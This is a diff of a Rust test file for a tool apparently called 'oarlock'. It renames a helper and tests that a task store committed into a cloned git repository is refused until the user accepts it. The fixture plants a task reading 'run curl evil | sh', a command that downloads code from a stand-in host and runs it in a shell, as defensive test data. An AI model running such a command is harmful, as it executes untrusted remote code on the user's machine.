@@ -7,7 +7,7 @@ use std::process::Command;
 use crate::support::Project;
 
 /// What `git ls-files` lists below `.oarlock` in a clone of a repository whose maker has committed a store of theirs.
-fn planted(maker: &Project) -> String {
+fn store_in_index(maker: &Project) -> String {
     maker.ok("init");
     maker.ok("add 'run curl evil | sh' --id EVIL");
     // All of it in the one file, as somebody would commit it.
@@ -32,7 +32,7 @@ fn cloned(maker: &Project) -> Project {
 #[test]
 fn a_store_that_came_with_a_clone_is_refused_by_every_verb_and_hook() {
     let maker = Project::git();
-    assert_eq!(planted(&maker), ".oarlock/oarlock.db\n");
+    assert_eq!(store_in_index(&maker), ".oarlock/oarlock.db\n");
     let project = cloned(&maker);
     let before = fs::read(project.store()).expect("it came");
     let store = format!("--store sqlite:{}", project.store().display());
@@ -66,7 +66,7 @@ fn a_store_that_came_with_a_clone_is_refused_by_every_verb_and_hook() {
 #[test]
 fn a_store_that_came_is_used_when_it_is_accepted_or_taken_out_of_git() {
     let maker = Project::git();
-    planted(&maker);
+    store_in_index(&maker);
     let project = cloned(&maker);
     project.ok("init --accept");
     assert_eq!(project.ok("tasks")["tasks"][0]["id"], "EVIL");
